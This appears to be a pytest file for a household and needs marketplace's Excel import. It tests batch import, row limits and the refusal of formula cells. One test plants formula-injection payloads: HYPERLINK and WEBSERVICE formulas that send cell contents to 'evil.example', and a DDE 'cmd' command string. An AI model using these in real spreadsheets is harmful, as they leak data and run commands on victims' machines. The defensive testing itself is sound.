"""Excel import at scale and with hostile cells (issue 11, items 1 and 5): every row is imported or
none (no silent cut at 5,000 rows), a workbook over the documented maximum is refused whole with a
clear error, rows are stored a batch at a time, and a formula cell is never stored."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.formula import ArrayFormula
from sqlmodel import col, func, select

from marketplace.models import AuditLog, Household, Need, Role, User
from marketplace.services import imports
from tests.factories import fill, household_row, valid_id_number


@pytest.fixture
def staff(make_user):
    return make_user(Role.HUB_STAFF, hub="330102")


@pytest.fixture
def template(db, staff) -> bytes:
    with db() as s:
        return imports.template(s, actor=s.get(User, staff.id))


def run(db, staff, data: bytes, **kw) -> imports.ImportReport:
    """What the job does: one unit of work, rolled back when the report has an error."""
    with db() as s:
        report = imports.import_workbook(s, actor=s.get(User, staff.id), data=data, **kw)
        if not report.ok:
            s.rollback()
    return report


def count(db, model) -> int:
    with db() as s:
        return s.exec(select(func.count()).select_from(model)).one()


def need_row(id_number: str, **kw) -> list:
    row = {
        "id_number": id_number,
        "kind": "微心愿",
        "item": "07-02 家具家电",
        "title": "想要一台电风扇",
        "description": "",
        "value": 150,
        "deadline": "2099-12-31",
    } | kw
    return list(row.values())


def test_more_rows_than_the_old_cut_are_all_imported(db, staff, template):
    """The old import read 5,000 rows, reported success and dropped the rest."""
    n = 5_003
    ids = [valid_id_number(100_000 + i) for i in range(n)]
    assert len(set(ids)) == n
    data = fill(template, [household_row(i, tags="") for i in ids], [need_row(ids[-1])])
    progress: list[tuple[int, int]] = []
    report = run(db, staff, data, progress=lambda d, t: progress.append((d, t)))
    assert report.ok, report.errors[:3]
    assert (report.rows, report.households, report.needs) == (n + 1, n, 1)
    assert count(db, Household) == n and count(db, Need) == 1
    assert progress[-1] == (n + 1, n + 1)
    assert all(d <= t for d, t in progress)
    with db() as s:
        audited = s.exec(
            select(func.count()).select_from(AuditLog).where(AuditLog.action == "household.create")
        ).one()
        assert audited == n
        last = s.exec(select(Household).where(Household.id_number == ids[-1])).one()
        need = s.exec(select(Need).where(Need.household_id == last.id)).one()
        assert need.title == "想要一台电风扇" and need.status == "pending_review"


def test_batches_and_an_error_in_a_late_batch_store_nothing(db, staff, template, monkeypatch):
    monkeypatch.setattr(imports, "BATCH", 7)
    ids = [valid_id_number(200_000 + i) for i in range(30)]
    rows = [household_row(i) for i in ids]
    rows[26] = household_row(ids[26], phone="12345")  # one bad row in the 4th batch
    report = run(db, staff, fill(template, rows, [need_row(ids[0])]))
    assert not report.ok
    assert [(e.sheet, e.row, e.column) for e in report.errors] == [("家庭", 28, "联系电话")]
    assert count(db, Household) == 0 and count(db, Need) == 0
    with db() as s:
        assert (
            s.exec(
                select(func.count())
                .select_from(AuditLog)
                .where(col(AuditLog.action).startswith("household"))
            ).one()
            == 0
        )


def test_duplicates_across_batches_and_registered_ones(
    db, staff, template, monkeypatch, make_household
):
    monkeypatch.setattr(imports, "BATCH", 3)
    registered = make_household(staff)
    ids = [valid_id_number(300_000 + i) for i in range(8)]
    rows = [household_row(i) for i in ids]
    rows.append(household_row(ids[1]))  # row 10 repeats row 3, in a later batch
    rows.append(household_row(registered.id_number))  # row 11: already registered
    report = run(db, staff, fill(template, rows, []))
    where = {(e.row, e.column, e.message.code) for e in report.errors}
    assert where == {
        (10, "身份证号", "import.duplicate_row"),
        (11, "身份证号", "household.duplicate"),
    }
    assert [dict(e.message.params) for e in report.errors if e.row == 10] == [{"row": 3}]
    assert count(db, Household) == 1  # only the one registered before


def test_over_the_maximum_is_refused_whole(db, staff, template):
    ids = [valid_id_number(400_000 + i) for i in range(12)]
    data = fill(template, [household_row(i) for i in ids[:8]], [need_row(i) for i in ids[:4]])
    report = run(db, staff, data, limits=imports.ImportLimits(max_rows=11))
    assert not report.ok and report.households == report.needs == 0
    assert [(e.row, e.message.code, dict(e.message.params)) for e in report.errors] == [
        (0, "import.too_many_rows", {"max": 11})
    ]
    assert count(db, Household) == 0
    # Exactly at the maximum: imported.
    report = run(db, staff, data, limits=imports.ImportLimits(max_rows=12))
    assert report.ok and (report.households, report.needs) == (8, 4)


def test_the_default_maximum_is_documented_in_the_configuration(app):
    assert imports.ImportLimits().max_rows == app.config["IMPORT_MAX_ROWS"] == 50_000
    assert imports.ImportLimits.from_config(app.config | {"IMPORT_MAX_ROWS": 7}).max_rows == 7


def _with_cells(template: bytes, households: list[list], needs: list[list], patch) -> bytes:
    wb = load_workbook(io.BytesIO(fill(template, households, needs)))
    patch(wb)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_formula_cells_are_refused_and_nothing_is_stored(db, staff, template):
    a, b, c = (valid_id_number(500_000 + i) for i in range(3))

    def plant(wb) -> None:
        hh, nd = wb[imports.HOUSEHOLD_SHEET], wb[imports.NEED_SHEET]
        hh["A2"] = '=HYPERLINK("http://evil.example/?leak="&B2,"王小明")'  # a real formula cell
        hh["D3"] = "=1+1"
        hh["J4"] = ArrayFormula("J4", "=SUM(I2:I4)")  # the tags column
        nd["D2"] = '=WEBSERVICE("http://evil.example/"&A2)'
        nd["E3"] = "=cmd|' /C calc'!A0"

    data = _with_cells(
        template,
        [household_row(a), household_row(b), household_row(c)],
        [need_row(a), need_row(b)],
        plant,
    )
    report = run(db, staff, data)
    formula_errors = {
        (e.sheet, e.row, e.column) for e in report.errors if e.message.code == "import.formula"
    }
    assert formula_errors == {
        ("家庭", 2, "户主姓名"),
        ("家庭", 3, "家庭住址"),
        ("家庭", 4, "标签"),
        ("需求", 2, "标题"),
        ("需求", 3, "描述"),
    }
    assert count(db, Household) == 0 and count(db, Need) == 0


def test_text_that_looks_like_a_formula_is_refused_too(db, staff, template):
    """A string cell holding "=…" (typed with a leading apostrophe, or written by a script) would
    become a formula when the text is typed back into a spreadsheet: refused the same way."""
    a = valid_id_number(600_000)

    def plant(wb) -> None:
        cell = wb[imports.HOUSEHOLD_SHEET]["D2"]
        cell.value = "  =1+2"
        cell.data_type = "s"

    report = run(db, staff, _with_cells(template, [household_row(a)], [], plant))
    assert [(e.row, e.column, e.message.code) for e in report.errors] == [
        (2, "家庭住址", "import.formula")
    ]


@pytest.mark.parametrize("text", ["+86 清波街1号", "-1号楼", "@家里", "\t=危险", "\r=危险"])
def test_other_formula_prefixes_are_stored_as_plain_text(db, staff, template, text):
    a = valid_id_number(700_000)
    title = "+想要-电风扇@"
    data = fill(template, [household_row(a, address=text)], [need_row(a, title=title)])
    report = run(db, staff, data)
    if text.strip().startswith("="):
        assert not report.ok and report.errors[0].message.code == "import.formula"
        return
    assert report.ok, report.errors
    with db() as s:
        household = s.exec(select(Household).where(Household.id_number == a)).one()
        assert household.address == text.strip()
        assert s.exec(select(Need.title).where(Need.household_id == household.id)).one() == title
